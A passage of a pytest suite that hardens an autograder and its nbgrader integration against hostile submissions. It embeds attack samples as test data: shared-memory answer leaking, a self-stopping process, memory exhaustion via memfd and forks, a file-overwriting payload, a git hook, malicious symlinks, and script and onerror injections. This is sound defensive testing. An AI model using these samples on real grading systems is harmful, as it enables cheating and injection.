def test_a_single_file_submission_that_is_not_a_regular_file_is_refused(tmp_path, target):
    sub = tmp_path / "mle.py"
    if target == "reference":
        sub.symlink_to(REFERENCE)
    elif target == "fifo":
        os.mkfifo(sub)
    else:
        sub.symlink_to(tmp_path / "nowhere.py")
    code, res, out = grade_one("mle", sub, results=tmp_path / "r.json")
    assert code == 0 and res["score"] == 0, out[-2000:]
    says = "is a FIFO" if target == "fifo" else LINKED
    assert all(says in t["output"] for t in res["tests"]), res["tests"][0]["output"]
    ref_lines = {ln.strip() for ln in Path(REFERENCE).read_text().splitlines() if len(ln.strip()) >= 12}
    assert not [ln for ln in ref_lines if ln in json.dumps(res) or ln in out]


def _results_targets(tmp_path):
    targets = {}
    if os.geteuid() == 0:  # a copy of /dev/null's device node, never the real one
        node = tmp_path / "null-copy"
        os.mknod(node, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
        targets["device"] = node
    targets["fifo"] = tmp_path / "fifo"
    os.mkfifo(targets["fifo"])
    targets["folder"] = tmp_path / "folder"
    targets["folder"].mkdir()
    (tmp_path / "kept.json").write_text("kept\n")
    targets["symlink"] = tmp_path / "link.json"
    targets["symlink"].symlink_to(tmp_path / "kept.json")
    return targets


def test_a_results_path_that_is_not_a_regular_file_is_refused(tmp_path):
    sub = build(tmp_path / "ok", "mle", Hostile("reference"))
    for kind, target in _results_targets(tmp_path).items():
        before = os.lstat(target)
        code, res, out = grade_one("mle", sub, results=target)
        after = os.lstat(target)
        says = {"device": "a device", "fifo": "a FIFO", "folder": "a folder", "symlink": "a symbolic link"}
        assert code == 2 and f"is {says[kind]}: give a regular file" in out, (kind, out[-1500:])
        assert (stat.S_IFMT(after.st_mode), after.st_ino) == (stat.S_IFMT(before.st_mode), before.st_ino)
        assert not list(target.parent.glob(f".{target.name}.*tmp"))
    assert (tmp_path / "kept.json").read_text() == "kept\n"
    assert os.listdir(tmp_path / "folder") == []


@pytest.mark.parametrize("addopts", ["--no-such-option", "-k no_test_is_named_like_this"])
def test_a_broken_pytest_set_up_is_exit_2_never_a_zero(tmp_path, addopts):
    sub = build(tmp_path / "ok", "mle", Hostile("reference"))
    code, res, out = grade_one("mle", sub, results=tmp_path / "r.json",
                               env={"PYTEST_ADDOPTS": addopts})
    assert code == 2, out[-2000:]
    assert res["tests"] == [] and "could not run" in res["output"]
    assert "0 / 0" not in out and "Total" not in out
def test_a_slow_but_correct_module_stops_at_the_gradings_time_budget(outcome):
    """Import 10 s, every call 9 s, all right: the grading ends at its budget, not after 5 minutes."""
    from autograder.engine import TIME_BUDGET

    results, _, _, stats = outcome
    res = results[SLOW_BUT_FINITE.name]
    budget = TIME_BUDGET["mle"]
    cut = [t for t in res["tests"] if t["score"] < t["max_score"]]
    assert cut and res["score"] < 100
    assert any(f"not run: the grading's time budget of {budget} s was used up" in t["output"] for t in cut)
    assert res["autograder"]["reason"] == "time budget used up"  # the engine's clock, not the output
    for t in cut:  # every loss is the budget's (or, on a crawling machine, one call's 10 s limit)
        assert "time budget of" in t["output"] or "did not finish within" in t["output"], t
    wall = {s["submission"]: s["wall_s"] for s in stats}
    assert wall[SLOW_BUT_FINITE.name] < budget + 20, wall
    print(f"slow_but_finite: {res['score']:g} points in {wall[SLOW_BUT_FINITE.name]:.1f} s (budget {budget} s)")


def test_the_graders_peak_memory_stays_bounded_under_every_attack(outcome):
    """Each grade-all worker's peak RSS (the grader's own, not the sandbox's) under 1 GiB."""
    results, _, _, stats = outcome
    assert {s["submission"] for s in stats} == set(results)
    peak = max(s["grader_peak_rss_mib"] for s in stats)
    by_name = {s["submission"]: s for s in stats}
    for name in ("reply_bomb_100_mib_header", "huge_array_announced", SLOW_BUT_FINITE.name):
        print(f"{name}: grader peak RSS so far {by_name[name]['grader_peak_rss_mib']} MiB, "
              f"wall {by_name[name]['wall_s']} s")
    assert peak < MAX_GRADER_RSS_MIB, stats


def _one(tmp_path, hostile):
    return write(tmp_path / hostile.name, "mle", apply("mle", hostile)) / "mle.py"


def test_as_root_a_sandbox_the_child_cannot_reach_stops_the_grading(tmp_path):
    """Careless instructor, as root, no mount namespaces: the grader's temporary folder is
    one others cannot enter (mktemp -d, 0700). Not 0 points for everyone: exit 2 and why."""
    runner("root")
    private_tmp = Path(tempfile.mkdtemp())  # mode 0700
    code, data, out = grade_one("mle", _one(tmp_path, Hostile("reference")), env={
        "TMPDIR": str(private_tmp), "AUTOGRADER_SANDBOX_NAMESPACES": "off", "AUTOGRADER_UNISOLATED": "1"})
    shutil.rmtree(private_tmp, ignore_errors=True)
    assert code == 2, out[-2000:]
    assert "cannot reach" in out and "blocked at" in out and str(private_tmp) in out, out[-2000:]
    assert data is not None and data["score"] == 0 and "could not run" in data["output"]


def test_as_root_with_namespaces_the_childs_view_does_not_depend_on_the_parents(tmp_path):
    """The same careless set-up where mount namespaces exist: the child is given what it needs."""
    runner("root")
    private_tmp = Path(tempfile.mkdtemp())
    code, data, out = grade_one("mle", _one(tmp_path, Hostile("reference")),
                                env={"TMPDIR": str(private_tmp)})
    shutil.rmtree(private_tmp, ignore_errors=True)
    assert code == 0 and data["score"] == 100, out[-3000:]


def test_without_namespaces_starting_a_process_is_refused_and_the_message_says_why(tmp_path):
    """Where no PID/mount namespace could contain it, a helper process is still refused."""
    helper = next(h for h in HOSTILE if h.name == "helper_process_at_import")
    code, data, out = grade_one("mle", _one(tmp_path, helper), user="normal",
                                env={"AUTOGRADER_SANDBOX_NAMESPACES": "off", "AUTOGRADER_UNISOLATED": "1"})
    assert code == 0 and data["score"] == 0, out[-2000:]
    assert "starting a process is not allowed" in out and "could not be contained" in out, out[-2000:]
#: Keeps every call's answer in a System V shared-memory segment (the red team's copycat pair):
#: the helper is the reference plus this, the copycat has no code of its own.
SHM_KEY = 0x5EED0000 + int(TOKEN[:4], 16)
SHM_HELPER = f"""
import ctypes as _ct, hashlib as _hl, pickle as _pk
_libc = _ct.CDLL(None)
_libc.shmat.restype = _ct.c_void_p
_seg = _libc.shmget({SHM_KEY}, 64 << 20, 0o1000 | 0o666)
_addr = _libc.shmat(_seg, None, 0)
_table = {{}}

def _keep(name, f):
    def wrapper(*a, **k):
        out = f(*a, **k)
        _table[_hl.sha256(_pk.dumps((name, a, k))).hexdigest()] = out
        blob = _pk.dumps(_table)
        _ct.memmove(_addr, len(blob).to_bytes(8, "little") + blob, 8 + len(blob))
        return out
    return wrapper

for _n in ("bernoulli_mle", "gaussian_mle", "mvn_mle", "spherical_mle"):
    globals()[_n] = _keep(_n, globals()[_n])
"""
SHM_COPYCAT = f"""
import ctypes as _ct, hashlib as _hl, pickle as _pk
_libc = _ct.CDLL(None)
_libc.shmat.restype = _ct.c_void_p

def _answer(name):
    def f(*a, **k):
        addr = _libc.shmat(_libc.shmget({SHM_KEY}, 0, 0), None, 0o10000)
        if addr in (None, _ct.c_void_p(-1).value):
            raise NotImplementedError
        size = int.from_bytes(_ct.string_at(addr, 8), "little")
        return _pk.loads(_ct.string_at(addr + 8, size))[_hl.sha256(_pk.dumps((name, a, k))).hexdigest()]
    return f

for _n in ("bernoulli_mle", "gaussian_mle", "mvn_mle", "spherical_mle"):
    globals()[_n] = _answer(_n)
"""


@pytest.mark.parametrize("user", ["root", "normal"])
def test_no_grading_reads_what_another_left_in_shared_memory(tmp_path, user):
    """Each child has its own IPC namespace: a copycat graded after a helper that kept every
    answer in System V shared memory (same seed) finds nothing, and nothing is left behind."""
    helper = _one(tmp_path, Hostile("keeps_answers_in_shared_memory", append=SHM_HELPER))
    code, data, out = grade_one("mle", helper, user=user)
    assert code == 0 and data["score"] == 100, out[-2000:]
    copycat = _one(tmp_path, Hostile("copycat", whole=stub_source("mle") + SHM_COPYCAT))
    code, data, out = grade_one("mle", copycat, user=user)
    assert code == 0 and data["score"] == 0, out[-2000:]
    with open("/proc/sysvipc/shm") as f:  # the host's segments (this test runs outside every sandbox)
        keys = {int(line.split()[0]) for line in list(f)[1:] if line.split()}
    assert SHM_KEY not in keys


#: The child stops itself (SIGSTOP) once it is back to reading requests after its reply to the
#: first of the two d = 200 calls; the second one's request (a 200 × 200 covariance, 320 KB) is
#: larger than a pipe's buffer, so the grader's write would block for ever.
STOPS_ITSELF = """
import os as _os, signal as _sg, threading as _th, time as _tm
_mvn_logpdf = mvn_logpdf
_done = []

def _stop_once_reading(tid):
    for _ in range(20_000):  # until the main thread waits in a pipe read (the next request)
        try:
            with open(f"/proc/self/task/{tid}/wchan") as f:
                if "pipe_read" in f.read():
                    break
        except OSError:
            break
        _tm.sleep(0.001)
    _os.kill(_os.getpid(), _sg.SIGSTOP)

def mvn_logpdf(X, mean, cov):
    out = _mvn_logpdf(X, mean, cov)
    if np.shape(cov) == (200, 200) and not _done:
        _done.append(1)
        _th.Thread(target=_stop_once_reading, args=(_th.get_native_id(),), daemon=True).start()
    return out
"""


@pytest.mark.parametrize("user", ["root", "normal"])
def test_a_child_that_stops_reading_never_blocks_the_grader(tmp_path, user):
    """Found by the red team: a request written to a child that stopped itself (SIGSTOP) blocked
    the grader for ever. Writes are bounded by the call's deadline: a time-out, then a restart."""
    sub = _one(tmp_path, Hostile("stops_itself", append=STOPS_ITSELF))
    code, data, out = grade_one("mle", sub, user=user)
    assert code == 0 and 0 < data["score"] < 100, out[-2000:]
    high = entry(data, "mle", "test_mvn_logpdf_high_dimension")
    assert high["score"] == 0 and "did not finish within" in high["output"], out[-2000:]


def test_a_grader_killed_mid_grading_takes_its_sandbox_with_it(tmp_path):
    """Found by the red team: with the grader gone, the sandbox lived on as an orphan. Each
    sandbox process dies with its parent (PR_SET_PDEATHSIG), so nothing is left."""
    import time

    sub = _one(tmp_path, Hostile("sleeps_at_import", prepend="import time as _t\n_t.sleep(60)\n"))
    grader = subprocess.Popen([sys.executable, "-m", "autograder", "grade", "mle", str(sub)],
                              cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def descendants(pid):
        found, todo = set(), [pid]
        while todo:
            p = todo.pop()
            try:
                kids = Path(f"/proc/{p}/task/{p}/children").read_text().split()
            except OSError:
                continue
            found.update(int(k) for k in kids)
            todo += [int(k) for k in kids]
        return found

    deadline = time.monotonic() + 120
    sandbox = set()
    while time.monotonic() < deadline and len(sandbox) < 3:  # outside, init, server
        sandbox = descendants(grader.pid)
        time.sleep(0.2)
    assert len(sandbox) >= 3, sandbox
    grader.kill()
    grader.wait()
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and any(Path(f"/proc/{p}").exists() for p in sandbox):
        time.sleep(0.2)
    alive = [p for p in sandbox if Path(f"/proc/{p}").exists()
             and "Z" not in Path(f"/proc/{p}/stat").read_text().split(")")[-1].split()[0]]
    assert not alive, alive


#: Memory no single process maps (memfd files) and memory many processes hold together (forks),
#: each far below the 2 GiB address-space limit of one process. Right answers only if it worked.
HOLDS_MEMORY = [("    x = _as_1d(x)\n    mean = np.mean(x)\n", """\
    x = _as_1d(x)
    import os
    fds, chunk = [], b"\\1" * (64 << 20)
    try:
        for i in range(60):  # 3.75 GiB in files no process maps
            fd = os.memfd_create(f"m{i}")
            os.write(fd, chunk)
            fds.append(fd)
    except OSError:
        return float(np.mean(x)), float(np.var(x, ddof=1))
    finally:
        for fd in fds:
            os.close(fd)
    mean = np.mean(x)
"""), ("def bernoulli_mle(x):\n", """def bernoulli_mle(x):
    import os, time
    kids = []
    for _ in range(3):  # 4.5 GiB held at once by three processes of 1.5 GiB
        pid = os.fork()
        if pid == 0:
            a = np.ones(1536 << 17)
            time.sleep(3)
            os._exit(0 if a.sum() > 0 else 1)
        kids.append(pid)
    if any(os.waitstatus_to_exitcode(os.waitpid(k, 0)[1]) != 0 for k in kids):
        return -1.0
""")]


def test_what_the_sandbox_holds_together_is_capped(tmp_path):
    """Found by the red team: memfd files (never mapped) and forks each under the per-process
    address-space limit held 2.6 and 4.8 GiB. As root each sandbox has one control group
    (memory: the call's limit + its tmpfs folders + 512 MiB; processes; one CPU)."""
    # justified: creating control groups needs root (or a delegated cgroup v2 subtree); a normal
    # user has per-process limits only, as README's per-mode table says
    runner("root")
    sub = _one(tmp_path, Hostile("holds_memory_together", replace=HOLDS_MEMORY))
    code, data, out = grade_one("mle", sub)
    assert code == 0, out[-2000:]
    for test in ("test_gaussian_mle_variance", "test_bernoulli_mle"):
        assert entry(data, "mle", test)["score"] == 0, out[-3000:]


def _reachable_by_others(path):
    parts = Path(os.path.realpath(path)).parts
    return all(os.stat(os.path.join(*parts[:i])).st_mode & 0o001 for i in range(1, len(parts) + 1))


@pytest.mark.parametrize("user", ["root", "normal"])
def test_without_namespaces_nothing_is_graded_unless_the_instructor_says_so(tmp_path, user):
    """No namespaces (a container): the allow-listed root cannot be built, so the grader refuses
    (exit 2, a results file saying why) unless told --unisolated; then every result says so."""
    sub = _one(tmp_path, Hostile("reference"))
    off = {"AUTOGRADER_SANDBOX_NAMESPACES": "off"}
    code, data, out = grade_one("mle", sub, user=user, env=off)
    assert code == 2 and "cannot isolate student code" in out and "--unisolated" in out, out[-2000:]
    assert data is not None and data["score"] == 0 and "could not run" in data["output"]
    if user == "root" and not _reachable_by_others(sys.base_prefix):
        # justified: as root without namespaces the fresh sandbox user cannot reach this machine's
        # interpreter (pyenv under /root, 0700); that refusal has its own test above
        return
    code, data, out = grade_one("mle", sub, user=user, env=off, extra=["--unisolated"])
    assert code == 0 and data["score"] == 100, out[-2000:]
    assert "Graded without isolation" in data["output"] and "Graded without isolation" in out
    assert "no namespaces" in data["autograder"]["unisolated"]
    # with namespaces the flag changes nothing: isolated, and not marked
    code, data, out = grade_one("mle", sub, user=user, extra=["--unisolated"])
    assert code == 0 and data["score"] == 100 and "without isolation" not in data["output"], out[-2000:]


@pytest.mark.parametrize("user", ["root", "normal"])
def test_grade_all_without_isolation_marks_every_gradebook_row(tmp_path, user):
    """--unisolated in grade-all: the gradebook's reason cell and each results file say it."""
    run = runner(user)
    if user == "root" and not _reachable_by_others(sys.base_prefix):
        skip("interpreter under /root", f"{sys.base_prefix} is not reachable by other users (the "
             "refusal is tested above)")
    folder = (run.scratch_folder("unisolated") if run.scratch else tmp_path) / "class"
    build(folder / "ada", "mle", Hostile("reference"))
    build(folder / "bob", "mle", Hostile("stub", ALL, whole=stub_source("mle")))
    rows = []
    results = grade_folder("mle", folder, user=user, extra=["--unisolated"], gradebook=rows,
                           env={"AUTOGRADER_SANDBOX_NAMESPACES": "off"})
    assert results["ada"]["score"] == 100 and results["bob"]["score"] == 0, results
    for name in ("ada", "bob"):
        assert "Graded without isolation" in results[name]["output"], results[name]["output"][:500]
    assert len(rows) == 3 and all("graded without isolation" in r[2] for r in rows[1:]), rows


def test_feedback_pages_count_no_forged_mistake_and_run_nothing(outcome, tmp_path):
    """The class's feedback pages and class report (reports/) drawn from these results: they run and
    fetch nothing, and a "Likely mistake" line in a student's own exception message is not counted."""
    from reports import classreport, feedback, parse
    from tests.test_reports import check_inert

    results = outcome[0]
    forged = results["forges_a_named_mistake"]
    assert not any(parse.mistakes(t["output"]) for t in forged["tests"])
    for name, res in results.items():
        html_path, md_path = feedback.write(name, res, tmp_path, assignment="mle")
        check_inert(html_path.read_text())
        assert "\x1b" not in md_path.read_text()
    page = feedback.page_name("forges_a_named_mistake")
    text = check_inert((tmp_path / f"{page}.html").read_text()).all_text
    assert "<script>alert(2)</script>" in text and "Likely mistake: everyone else" in text  # shown, as text
    html_path, summary = classreport.write("mle", results, tmp_path)
    assert "everyone else is wrong" not in summary and "everyone else is wrong" not in html_path.read_text()
    assert "variance divided by n−1" in summary  # the real mistakes of this class are counted
    check_inert(html_path.read_text())
def test_classroom_collect_a_symlink_to_the_reference_earns_nothing(tmp_path):
    """A student repository whose mle.py is a symlink to the kit's reference (or any private file)
    would score 100 if collect honoured it; collected with core.symlinks=false it is a one-line
    text file (the link's target), so the submission fails to import and earns 0."""
    import subprocess

    from frontdoors.classroom import collect

    repo = tmp_path / "student"
    subprocess.run(["git", "init", "-q", "-b", "main", str(repo)], check=True)
    (repo / "mle.py").symlink_to(ROOT / "solutions" / "mle" / "mle.py")
    hooks = repo / ".githooks"
    hooks.mkdir()
    (hooks / "post-checkout").write_text(f"#!/bin/sh\ntouch /tmp/kit-hook-{TOKEN}\n")
    (hooks / "post-checkout").chmod(0o755)
    subprocess.run(["git", "-C", str(repo), "add", "-A"], check=True)
    env = {**os.environ, "GIT_AUTHOR_DATE": "2026-11-01T10:00:00+00:00",
           "GIT_COMMITTER_DATE": "2026-11-01T10:00:00+00:00"}
    subprocess.run(["git", "-C", str(repo), "-c", "user.name=s", "-c", "user.email=s@example.org",
                    "-c", "core.hooksPath=.githooks", "commit", "-qm", "link"], check=True, env=env)
    subs = tmp_path / "work" / "submissions"
    got = collect.fetch_at_deadline(repo.as_uri(), tmp_path / "work" / "repos" / "s.git", subs / "s",
                                    "2026-11-15 00:00 +0000")
    assert got.commit
    module = subs / "s" / "mle.py"
    assert not module.is_symlink() and module.read_text() == str(ROOT / "solutions" / "mle" / "mle.py")
    assert not Path(f"/tmp/kit-hook-{TOKEN}").exists()
    results = grade_folder("mle", subs)["s"]
    assert results["score"] == 0


# ----------------------------------------------------------------------------
# nbgrader: no student code runs with the instructor's rights, and feedback pages render no
# student HTML/JavaScript (issue 9 §2 and §7). One course, four students, through the CLI:
#   stub     the untouched stub: the baseline score;
#   payload  the stub, whose import copies the reference over its module in submitted/,
#            autograded/ and the kit's snapshot, plants a conftest in the hidden tests and
#            writes into the kit — nbgrader used to give it 100, and so did the cross-check;
#   linked   mle.py a symbolic link to the reference solution: refused, never read;
#   script   the reference, with a <script> and an onerror handler in a markdown cell and in a
#            written answer, and an HTML output with a <script> in its autograded notebook;
#   devzero  mle.py a link to /dev/zero and a FIFO beside it: nbgrader's own copy of submitted/
#            would copy forever and block; the kit sets both aside first (never opened).

NB_STUDENTS = ("stub", "payload", "linked", "script", "devzero")
#: What the kit moves out of submitted/ before nbgrader copies it (links, FIFOs, devices).
SET_ASIDE = {"submitted/linked/mle/mle.py", "submitted/devzero/mle/mle.py",
             "submitted/devzero/mle/pipe.py"}
#: Built by string concatenation in the page's JavaScript: the element exists only if a script ran.
INJECTED = "kitinjected" + TOKEN


def _payload(course, kit):
    targets = [course / "submitted" / "payload" / "mle" / "mle.py",
               course / "autograded" / "payload" / "mle" / "mle.py",
               course / "snapshots" / "payload" / "mle" / "files" / "mle.py",
               kit / "hidden_tests" / "mle" / "conftest.py",
               kit / f"nbgrader-pwned-{TOKEN}"]
    return f"""import os as _os, shutil as _shutil
for _t in {[str(t) for t in targets]!r}:
    try:
        _os.chmod(_t, 0o644)
    except Exception:
        pass
    try:
        _shutil.copyfile({str(kit / "solutions" / "mle" / "mle.py")!r}, _t)
    except Exception:
        pass
""" + stub_source("mle")


#: the variables the instructor's shell might carry that the course must not depend on
NB_UNSET = ("AUTOGRADER_SEED", "PYTHONPATH", "JUPYTER_PATH")


def _nb(run, course, *args, check=True, timeout=1800):
    """``nbgrader <args>`` in ``course``, run as ``run``'s user (through the kit's own helper)."""
    code = ("import json, os, sys; from pathlib import Path; from frontdoors.nbgrader import course as c\n"
            f"for k in {NB_UNSET!r}: os.environ.pop(k, None)\n"
            f"p = c.nbgrader(Path({str(course)!r}), *{list(args)!r}, check=False, timeout={timeout})\n"
            "print(json.dumps([p.returncode, p.stdout, p.stderr]))")
    outer = run.run(["-c", code], timeout=timeout + 60)
    assert outer.returncode == 0, outer.stderr[-3000:]
    rc, out, err = json.loads(outer.stdout.strip().splitlines()[-1])
    proc = subprocess.CompletedProcess(["nbgrader", *args], rc, out, err)
    if check and rc != 0:
        raise AssertionError(f"nbgrader {' '.join(args)} failed ({rc}):\n{out[-3000:]}\n{err[-3000:]}")
    return proc


def _crosscheck(run, course, *args, timeout=1800):
    return run.run(["-m", "frontdoors.nbgrader.crosscheck", str(course), "mle", *args], timeout=timeout)


def _script_notebook(path):
    nb = nbformat.read(path, as_version=4)
    attack = (f"<script>document.body.appendChild(document.createElement('kitinjected' + '{TOKEN}'))"
              f"</script>\n\n<img src=x onerror=\"document.title='{INJECTED}'\">")
    nb.cells.insert(1, nbformat.v4.new_markdown_cell("A cell of my own\n\n" + attack))
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = "My answer.\n\n" + attack
    nbformat.write(nb, path)


def _tree(folder, skip=()):
    out = {}
    for p in sorted(Path(folder).rglob("*")):
        rel = p.relative_to(folder)
        if rel.parts[0] in skip or p.is_dir():
            continue
        mode = os.lstat(p).st_mode
        out[str(rel)] = (os.readlink(p) if stat.S_ISLNK(mode) else
                         hashlib.sha256(p.read_bytes()).hexdigest() if stat.S_ISREG(mode) else
                         f"<not a regular file: {stat.filemode(mode)}>")  # a FIFO is never opened
    return out


def _course_state(course):
    """Everything of the course folder that autograde, feedback and the cross-check must not change."""
    return _tree(course, skip=("autograded", "feedback", "snapshots", "gradebook.db"))


@dataclass
class NbRun:
    """One nbgrader course, autograded as ``run``'s user (root or an unprivileged instructor)."""

    course: Path
    auto: subprocess.CompletedProcess
    check: subprocess.CompletedProcess
    kit: tuple        # (the kit's snapshot before, after)
    state: tuple      # (the course's state before, after)
    run: object       # the Runner: whose rights nbgrader ran with, and from which kit


def nbgraded(run, tmp_root):
    course = (run.scratch_folder("nbgrader") if run.scratch else tmp_root) / "course"
    build = ("from pathlib import Path; from frontdoors.nbgrader import course as c\n"
             f"c.build_course(Path({str(course)!r}), ['mle'], seed={SEED}, log=lambda *_: None)")
    built = run.run(["-c", build], timeout=1800)
    assert built.returncode == 0, built.stderr[-3000:]
    for student in NB_STUDENTS:
        dest = course / "submitted" / student / "mle"
        shutil.copytree(course / "release" / "mle", dest)
        module = dest / "mle.py"
        module.unlink()
        if student == "linked":
            module.symlink_to(run.kit / "solutions" / "mle" / "mle.py")
        elif student == "devzero":
            module.symlink_to("/dev/zero")
            os.mkfifo(dest / "pipe.py")
        else:
            module.write_text({"stub": stub_source("mle"), "payload": _payload(course, run.kit),
                               "script": reference_source("mle")}[student], encoding="utf-8")
    _script_notebook(course / "submitted" / "script" / "mle" / "mle.ipynb")
    run.own(course)
    kit_before, course_before = _snapshot(run.kit), _course_state(course)
    auto = _nb(run, course, "autograde", "mle", "--force")
    # an HTML output with a script, where a kernel would have put it (none runs: defence in depth)
    graded_nb = course / "autograded" / "script" / "mle" / "mle.ipynb"
    os.chmod(graded_nb, 0o644)
    nb = nbformat.read(graded_nb, as_version=4)
    cell = next(c for c in nb.cells if c.cell_type == "code" and not c.metadata["nbgrader"]["grade"])
    cell.outputs = [
        nbformat.v4.new_output("display_data", data={
            "text/html": f"<b>shown</b><script>document.title='{INJECTED}'</script>", "text/plain": "x"}),
        nbformat.v4.new_output("display_data", data={
            "application/javascript": f"document.title='{INJECTED}'", "text/plain": "y"})]
    nbformat.write(nb, graded_nb)
    run.own(graded_nb)
    _nb(run, course, "generate_feedback", "mle", "--force")
    check = _crosscheck(run, course)
    return NbRun(course, auto, check, (kit_before, _snapshot(run.kit)), (course_before, _course_state(course)),
                 run)


#: the nbgrader cases as an instructor running as root and as one running as a normal user
NB_USERS = pytest.fixture(scope="module", params=["root", "normal"])
#: they share one course per user, and run beside the rest of this file (``make test`` is -n 2)
NB_GROUP = pytest.mark.xdist_group("hostile-nbgrader")


@NB_USERS
def nbcourse_run(request, tmp_path_factory):
    return nbgraded(runner(request.param), tmp_path_factory.mktemp("nbgrader-hostile"))


def _book(course):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        return {s: {g.name: g.auto_score for g in gb.find_submission_notebook("mle", "mle", s).grades
                    if g.name.startswith("part_")} for s in NB_STUDENTS}


@NB_GROUP
def test_nbgrader_payload_earns_exactly_the_stubs_score(nbcourse_run):
    course, auto, check = nbcourse_run.course, nbcourse_run.auto, nbcourse_run.check
    book = _book(course)
    assert book["payload"] == book["stub"] and sum(book["stub"].values()) == 0
    assert sum(book["script"].values()) == 100
    assert sum(book["linked"].values()) == 0
    assert check.returncode == 0, check.stdout + check.stderr
    for student in NB_STUDENTS:
        assert re.search(rf"^{student}: ok \(({100 if student == 'script' else 0}) points", check.stdout,
                         re.MULTILINE), check.stdout


@NB_GROUP
def test_nbgrader_autograde_started_no_kernel_and_no_file_outside_the_sandbox_changed(nbcourse_run):
    course, auto, run = nbcourse_run.course, nbcourse_run.auto, nbcourse_run.run
    (kit_before, kit_after), (course_before, course_after) = nbcourse_run.kit, nbcourse_run.state
    assert kit_before == kit_after
    # only the links and FIFOs moved, to set_aside/, as they were (never followed or opened)
    assert {k: v for k, v in course_after.items() if not k.startswith("set_aside/")} == \
        {k: v for k, v in course_before.items() if k not in SET_ASIDE}
    for moved in SET_ASIDE:
        assert course_after["set_aside/" + moved.removeprefix("submitted/")] == course_before[moved]
    assert not (run.kit / f"nbgrader-pwned-{TOKEN}").exists()
    assert not (run.kit / "hidden_tests" / "mle" / "conftest.py").exists()
    payload = (course / "submitted" / "payload" / "mle" / "mle.py").read_bytes()
    for where in ("autograded/payload/mle/mle.py", "snapshots/payload/mle/files/mle.py"):
        assert (course / where).read_bytes() == payload, where
    assert "Kernel" not in auto.stdout + auto.stderr
    nb = nbformat.read(course / "autograded" / "payload" / "mle" / "mle.ipynb", as_version=4)
    plain = [c for c in nb.cells if c.cell_type == "code" and not c.metadata.get("nbgrader", {}).get("grade")]
    assert plain and not [c for c in plain if c.outputs or c.execution_count]


@NB_GROUP
def test_nbgrader_a_linked_module_is_refused_by_name_and_never_copied(nbcourse_run):
    course, run = nbcourse_run.course, nbcourse_run.run
    record = json.loads((course / "set_aside" / "linked" / "mle" / "SET_ASIDE.json").read_text())
    assert record == [{"path": "mle.py", "kind": "a symbolic link"}]
    assert not (course / "autograded" / "linked" / "mle" / "mle.py").exists()
    reference = (ROOT / "solutions" / "mle" / "mle.py").read_text()
    for p in (course / "feedback" / "linked").rglob("*"):
        if p.is_file():
            assert "### BEGIN SOLUTION" not in p.read_text(errors="replace") or p.suffix == ".ipynb"
            assert p.read_text(errors="replace") != reference
    page = (course / "feedback" / "linked" / "mle" / "mle.html").read_text()
    assert "mle.py is a symbolic link: submit the file itself" in html.unescape(page)


@NB_GROUP
def test_nbgrader_a_link_to_dev_zero_and_a_fifo_are_set_aside_not_copied(nbcourse_run):
    """nbgrader's own copy of submitted/ follows links and opens FIFOs: the kit moves them aside
    first, so autograde finishes, nothing is copied from /dev/zero, and the feedback says why."""
    course, auto = nbcourse_run.course, nbcourse_run.auto
    assert auto.returncode == 0
    record = json.loads((course / "set_aside" / "devzero" / "mle" / "SET_ASIDE.json").read_text())
    assert sorted(record, key=lambda e: e["path"]) == [
        {"path": "mle.py", "kind": "a symbolic link"}, {"path": "pipe.py", "kind": "a FIFO (named pipe)"}]
    graded = course / "autograded" / "devzero" / "mle"
    assert not (graded / "mle.py").exists() and not (graded / "pipe.py").exists()
    assert sum(_book(course)["devzero"].values()) == 0
    page = html.unescape((course / "feedback" / "devzero" / "mle" / "mle.html").read_text())
    assert "mle.py is a symbolic link: submit the file itself" in page
    assert "pipe.py is a FIFO (named pipe), not a regular file" in page


class _Markup(HTMLParser):
    """The elements, attributes and script bodies of a page, as a browser would parse them."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.tags, self.scripts, self._in_script = [], [], False
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)


@NB_GROUP
def test_nbgrader_feedback_shows_student_html_as_text(nbcourse_run):
    course, run = nbcourse_run.course, nbcourse_run.run
    page = (course / "feedback" / "script" / "mle" / "mle.html").read_text()
    assert "A cell of my own" in page and "My answer." in page
    text = html.unescape(page)
    assert f"<script>document.body.appendChild(document.createElement('kitinjected' + '{TOKEN}'))" in text
    assert "<b>shown</b>" in page                               # a harmless HTML output is kept
    markup = _Markup(page)
    assert not [body for body in markup.scripts if TOKEN in body]
    assert not [(tag, attrs) for tag, attrs in markup.tags
                if any(k.startswith("on") or TOKEN in (v or "") for k, v in attrs.items())]


@needs_chromium
@NB_GROUP
def test_nbgrader_feedback_runs_no_student_script_in_a_browser(nbcourse_run, tmp_path):
    course, run = nbcourse_run.course, nbcourse_run.run
    page = course / "feedback" / "script" / "mle" / "mle.html"
    proc = subprocess.run(["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
                           f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=3000",
                           "--dump-dom", page.as_uri()], capture_output=True, text=True, timeout=120)
    dom = proc.stdout
    assert "My answer." in dom, proc.stderr[-2000:]
    assert f"<{INJECTED}" not in dom and f"<title>{INJECTED}" not in dom


@NB_GROUP
def test_nbgrader_crosscheck_names_every_file_changed_after_collection(nbcourse_run):
    course, run = nbcourse_run.course, nbcourse_run.run
    reference = (ROOT / "solutions" / "mle" / "mle.py").read_bytes()
    tampered = [course / "submitted" / "payload" / "mle" / "mle.py",
                course / "snapshots" / "payload" / "mle" / "files" / "mle.py"]
    kept = {p: p.read_bytes() for p in tampered}
    try:
        for p in tampered:
            p.write_bytes(reference)
        (course / "submitted" / "payload" / "mle" / "extra.py").write_text("x = 1\n")
        run.own(course / "submitted" / "payload" / "mle" / "extra.py")
        check = _crosscheck(run, course, "--student", "payload", timeout=900)
    finally:
        for p, data in kept.items():
            p.write_bytes(data)
        (course / "submitted" / "payload" / "mle" / "extra.py").unlink()
    assert check.returncode == 1, check.stdout + check.stderr
    for line in ("snapshot file mle.py (changed)", "submitted/payload/mle/mle.py (changed)",
                 "submitted/payload/mle/extra.py (added)", "regrade: 100 points",
